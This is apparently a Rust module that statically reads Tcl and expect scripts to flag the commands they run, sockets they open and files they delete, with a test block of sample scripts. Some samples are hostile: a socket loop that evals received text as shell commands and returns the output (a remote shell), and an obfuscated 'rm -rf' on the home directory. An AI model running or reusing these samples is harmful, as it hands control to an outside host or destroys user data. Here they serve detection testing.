//! Tcl, and expect, which is tcl with spawned programs.
//!
//! In: a script. Out: acts.
//! Never: follows branches: every script among a command's words is read.

use std::collections::HashMap;
use std::rc::Rc;

use super::braces::{closing, matching, variable};
use super::notes::{Notes, known, open, pieces, value};
use crate::code::escape::escape;
use crate::code::found::{Found, Grade, Origin, Piece, Value, What};
use crate::text::Span;

const DEPTH_LIMIT: u8 = 12;

pub(crate) fn look(text: &str) -> Found {
    let mut tcl = Tcl { notes: Notes::default(), vars: HashMap::new(), depth: 0 };
    tcl.script(text, 0);
    tcl.notes.found
}

pub(super) struct Tcl {
    pub(super) notes: Notes,
    vars: HashMap<String, Value>,
    depth: u8,
}

/// A word: its value, and its inside if braces hid it.
pub(super) struct Word<'a> {
    pub(super) value: Value,
    braced: Option<&'a str>,
    start: usize,
}

impl Word<'_> {
    pub(super) fn text(&self) -> &str {
        self.value.known().unwrap_or("")
    }
}

impl Tcl {
    /// Reads all commands of a script; gives the last one's value.
    fn script(&mut self, text: &str, base: usize) -> Value {
        if self.depth >= DEPTH_LIMIT {
            self.notes.doubt(
                Grade::Limit,
                "code nested too deeply",
                Span::new(base, base.saturating_add(text.len())),
            );
            return Value::unknown(Origin::Unknown);
        }
        self.depth = self.depth.saturating_add(1);
        let mut at = 0_usize;
        let mut last = known("");
        while at < text.len() {
            let (words, end) = self.words(text, at, base);
            if !words.is_empty() {
                last = self.command(&words, Span::new(base.saturating_add(at), base.saturating_add(end)));
            }
            at = end.max(at.saturating_add(1)).min(text.len());
            while !text.is_char_boundary(at) {
                at = at.saturating_add(1);
            }
        }
        self.depth = self.depth.saturating_sub(1);
        last
    }

    /// The words of the command at `at`, and where it ends (after its separator).
    fn words<'a>(&mut self, text: &'a str, from: usize, base: usize) -> (Vec<Word<'a>>, usize) {
        let bytes = text.as_bytes();
        let mut words = Vec::new();
        let mut at = from;
        loop {
            while bytes.get(at).is_some_and(|b| matches!(b, b' ' | b'\t' | b'\r'))
                || text.get(at..).is_some_and(|r| r.starts_with("\\\n"))
            {
                at = at.saturating_add(if bytes.get(at) == Some(&b'\\') { 2 } else { 1 });
            }
            match bytes.get(at) {
                None => return (words, at),
                Some(b'\n' | b';') => return (words, at.saturating_add(1)),
                Some(b'#') if words.is_empty() => {
                    at = memchr::memchr(b'\n', bytes.get(at..).unwrap_or(b""))
                        .map_or(text.len(), |n| at.saturating_add(n));
                }
                Some(b'{') if !text.get(at..).is_some_and(|r| r.starts_with("{*}")) => {
                    let start = at.saturating_add(1);
                    let end = matching(bytes, start);
                    let inside = text.get(start..end).unwrap_or("");
                    words.push(Word {
                        value: known(inside),
                        braced: Some(inside),
                        start: base.saturating_add(start),
                    });
                    at = end.saturating_add(1);
                }
                Some(first) => {
                    if text.get(at..).is_some_and(|r| r.starts_with("{*}")) {
                        at = at.saturating_add(3);
                    }
                    let quoted = *first == b'"';
                    let start = at.saturating_add(usize::from(quoted));
                    let (made, end) = self.substitute(text, start, quoted, base);
                    words.push(Word { value: made, braced: None, start: base.saturating_add(start) });
                    at = end.saturating_add(usize::from(quoted)).max(at.saturating_add(1));
                }
            }
        }
    }

    /// A word with variables, commands and escapes replaced, up to its end.
    fn substitute(&mut self, text: &str, from: usize, quoted: bool, base: usize) -> (Value, usize) {
        let bytes = text.as_bytes();
        let mut out: Vec<Piece> = Vec::new();
        let mut lit = String::new();
        let mut at = from;
        while let Some(b) = bytes.get(at).copied() {
            match b {
                b'"' if quoted => break,
                b' ' | b'\t' | b'\n' | b';' | b'\r' if !quoted => break,
                b'\\' => {
                    let rest = text.get(at.saturating_add(1)..).unwrap_or("");
                    at = at.saturating_add(1).saturating_add(escape(rest, &mut lit));
                }
                b'[' => {
                    let start = at.saturating_add(1);
                    let end = closing(bytes, start);
                    out.push(Piece::Text(Rc::from(std::mem::take(&mut lit))));
                    let inner = self.script(text.get(start..end).unwrap_or(""), base.saturating_add(start));
                    out.extend(pieces(&inner));
                    at = end.saturating_add(1);
                }
                b'$' => {
                    let (name, end) = variable(text, at.saturating_add(1));
                    if name.is_empty() {
                        lit.push('$');
                    } else {
                        out.push(Piece::Text(Rc::from(std::mem::take(&mut lit))));
                        out.extend(self.variable(&name));
                    }
                    at = end;
                }
                _ => {
                    let c = text.get(at..).and_then(|r| r.chars().next()).unwrap_or('\u{fffd}');
                    lit.push(c);
                    at = at.saturating_add(c.len_utf8());
                }
            }
        }
        out.push(Piece::Text(Rc::from(lit)));
        (value(out), at)
    }

    fn variable(&self, name: &str) -> Vec<Piece> {
        if let Some(found) = self.vars.get(name) {
            return pieces(found);
        }
        let plain = name.trim_start_matches("::");
        match plain.strip_prefix("env(").and_then(|n| n.strip_suffix(')')) {
            Some(variable) => vec![open(Origin::Variable, variable)],
            None if plain == "argv" => vec![open(Origin::Argument, "")],
            None => vec![open(Origin::Unknown, "")],
        }
    }

    fn joined(words: &[Word<'_>]) -> Value {
        let mut out = Vec::new();
        for (n, word) in words.iter().enumerate() {
            if n > 0 {
                out.push(Piece::Text(Rc::from(" ")));
            }
            out.extend(pieces(&word.value));
        }
        value(out)
    }

    #[expect(clippy::too_many_lines, reason = "one arm for each form of the grammar")]
    fn command(&mut self, words: &[Word<'_>], span: Span) -> Value {
        let Some((head, args)) = words.split_first() else { return known("") };
        let first = args.first().map_or_else(|| known(""), |w| w.value.clone());
        match head.text().trim_start_matches("::") {
            "set" => match args {
                [name, made, ..] => {
                    if self.vars.len() < 4096 {
                        self.vars.insert(name.text().to_owned(), made.value.clone());
                    }
                    made.value.clone()
                }
                _ => value(self.variable(first.known().unwrap_or(""))),
            },
            "append" => {
                let name = first.known().unwrap_or("").to_owned();
                let mut all = self.variable(&name);
                all.extend(args.iter().skip(1).flat_map(|w| pieces(&w.value)));
                if self.vars.len() < 4096 && all.len() < 64 {
                    self.vars.insert(name, value(all));
                }
                known("")
            }
            "exec" => self.exec(args, span),
            "system" | "exp_system" => self.run(What::Shell, Self::joined(args), span),
            "spawn" => {
                let words =
                    args.iter().skip_while(|w| w.text().starts_with('-')).map(|w| w.value.clone()).collect();
                self.notes.act(What::Exec, words, span);
                known("")
            }
            "interact" => known(""),
            "open" => self.open(args, span),
            "file" => self.file(args, span),
            "glob" => args.last().map_or_else(|| known(""), |w| w.value.clone()),
            "cd" => self.run(What::Chdir, first, span),
            "source" => self.run(What::Load, first, span),
            "load" => self.run(What::LoadNative, first, span),
            "socket" => self.socket(args, span),
            "eval" | "uplevel" | "subst" | "after" => self.eval(args, span),
            "gets" | "read" | "recv" => self.gets(args),
            "puts" => {
                if Self::joined(args).source().is_some_and(|s| s.origin == Origin::Environment) {
                    self.notes.act(What::Environment, Vec::new(), span);
                }
                known("")
            }
            "parray" | "array" if args.iter().any(|w| matches!(w.text(), "env" | "::env")) => {
                if head.text() == "parray" {
                    self.notes.act(What::Environment, Vec::new(), span);
                }
                value(vec![open(Origin::Environment, "")])
            }
            "http::geturl" => self.run(What::Fetch, first, span),
            "fork" => known(""),
            "string" | "format" | "join" | "binary" | "concat" | "lindex" | "list" => {
                Self::fold(head.text(), args)
            }
            "send" | "exp_send" | "expect" | "send_user" => known(""),
            "" if head.braced.is_none() => {
                self.notes.doubt(Grade::Chosen, "a command is chosen at run time", span);
                known("")
            }
            _ => self.control(args),
        }
    }

    pub(super) fn run(&mut self, what: What, on: Value, span: Span) -> Value {
        let detail = on.known().unwrap_or("").to_owned();
        self.notes.act(what, vec![on], span);
        let origin = match what {
            What::Fetch => Origin::Network,
            What::Shell => Origin::Command,
            _ => return known(""),
        };
        value(vec![open(origin, &detail)])
    }

    /// Words in braces are scripts of `if`, `while`, `proc`, `catch` …
    fn control(&mut self, args: &[Word<'_>]) -> Value {
        let mut last = known("");
        for word in args {
            if let Some(inside) = word.braced {
                // a condition is read as a script too: only its substitutions count
                last = if inside.trim_start().starts_with(['$', '!', '[', '(']) {
                    self.substitute(inside, 0, true, word.start).0
                } else {
                    self.script(inside, word.start)
                };
            }
        }
        last
    }

    fn exec(&mut self, args: &[Word<'_>], span: Span) -> Value {
        let args: Vec<&Word<'_>> =
            args.iter().skip_while(|w| matches!(w.text(), "-ignorestderr" | "-keepnewline" | "--")).collect();
        let piped = args.iter().any(|w| {
            w.braced.is_none()
                && w.text().starts_with(['|', '>', '<', '&', '2'])
                && !w.text().starts_with("2.")
                && w.text().len() < 4096
                && w.text().contains(['|', '>', '<', '&'])
        });
        let detail = args.first().map(|w| w.text().to_owned()).unwrap_or_default();
        if piped || args.len() == 1 {
            let mut all = Vec::new();
            for word in args.iter().filter(|w| {
                !matches!(
                    w.text(),
                    ">@stdout"
                        | "<@stdin"
                        | "2>@stderr"
                        | ">@"
                        | "<@"
                        | "2>@"
                        | "stdin"
                        | "stdout"
                        | "stderr"
                )
            }) {
                all.extend(pieces(&word.value));
                all.push(Piece::Text(Rc::from(" ")));
            }
            all.pop();
            self.notes.act(What::Shell, vec![value(all)], span);
        } else {
            self.notes.act(What::Exec, args.iter().map(|w| w.value.clone()).collect(), span);
        }
        value(vec![open(Origin::Command, &detail)])
    }

    /// `gets channel variable`: the variable comes from where the channel comes from.
    fn gets(&mut self, args: &[Word<'_>]) -> Value {
        let from = args.first().map_or_else(|| known(""), |w| w.value.clone());
        let got = match from.source() {
            Some(source) => value(vec![Piece::Open(source)]),
            None => value(vec![open(Origin::Stdin, "")]),
        };
        if let Some(name) = args.get(1).filter(|_| self.vars.len() < 4096) {
            self.vars.insert(name.text().to_owned(), got.clone());
        }
        got
    }

    fn eval(&mut self, args: &[Word<'_>], span: Span) -> Value {
        let args = if args
            .first()
            .is_some_and(|w| !w.text().is_empty() && w.text().bytes().all(|b| b.is_ascii_digit()))
        {
            args.get(1..).unwrap_or(&[])
        } else {
            args
        };
        let code = Self::joined(args);
        if let Some(text) = code.known() {
            let text = text.to_owned();
            self.script(&text, args.first().map_or(0, |w| w.start))
        } else {
            // `exec` and what follows: a command whose words come from elsewhere
            if let Some(rest) = code.prefix().strip_prefix("exec ") {
                let mut all = pieces(&code);
                if let Some(first) = all.first_mut() {
                    *first = Piece::Text(Rc::from(rest));
                }
                return self.run(What::Shell, value(all), span);
            }
            self.notes.act(What::Eval, vec![code], span);
            value(vec![open(Origin::Unknown, "")])
        }
    }

    fn fold(name: &str, args: &[Word<'_>]) -> Value {
        let last = args.last().map_or_else(|| known(""), |w| w.value.clone());
        let sub = args.first().map_or("", |w| w.text());
        match (name, sub, last.known()) {
            ("string", "reverse", Some(text)) => known(&text.chars().rev().collect::<String>()),
            ("string", "tolower" | "trim" | "cat", _) => last,
            ("concat" | "list", ..) => Self::joined(args),
            ("join", ..) => {
                let by = args.get(1).map_or(" ", |w| w.text());
                known(&sub.split_ascii_whitespace().collect::<Vec<_>>().join(by))
            }
            _ => match last.source() {
                Some(source) => value(vec![Piece::Open(source)]),
                None => value(vec![open(Origin::Computed, "")]),
            },
        }
    }
}

#[cfg(test)]
mod tests {
    use crate::code::tests::lines;
    use crate::policy::tables::Lang;

    #[test]
    fn commands_that_act_are_found() {
        let cases: &[(&str, &[&str])] = &[
            ("exec ls -l /tmp", &["Exec ls | -l | /tmp"]),
            ("exec /bin/sh <@stdin >@stdout 2>@stderr", &["Shell /bin/sh"]),
            ("set f [open out.txt w]; puts $f hi; close $f", &["Write out.txt"]),
            ("set x r; append x m; exec $x -rf $env(HOME)/a", &["Exec rm | -rf | <Variable HOME>/a"]),
            ("if {[file exists a]} { file delete -force a b }", &["DeleteTree a", "DeleteTree b"]),
            (
                "set s [socket h 80]; while 1 { gets $s c; set e \"exec $c\"; if {![catch {set r [eval $e]} err]} { puts $s $r } }",
                &["Connect h | 80", "Shell <Network>"],
            ),
            ("# exec rm\nputs {exec rm}", &[]),
            ("spawn ssh host; expect pass; send x\\r; interact", &["Exec ssh | host"]),
            ("proc f {x} { exec rm $x }\nf y", &["Exec rm | <Unknown>"]),
            ("load ./a.so; source b.tcl; open |uptime", &["LoadNative ./a.so", "Load b.tcl", "Shell uptime"]),
        ];
        for (script, acts) in cases {
            assert_eq!(lines(Lang::Tcl, script), *acts, "{script}");
        }
    }
}
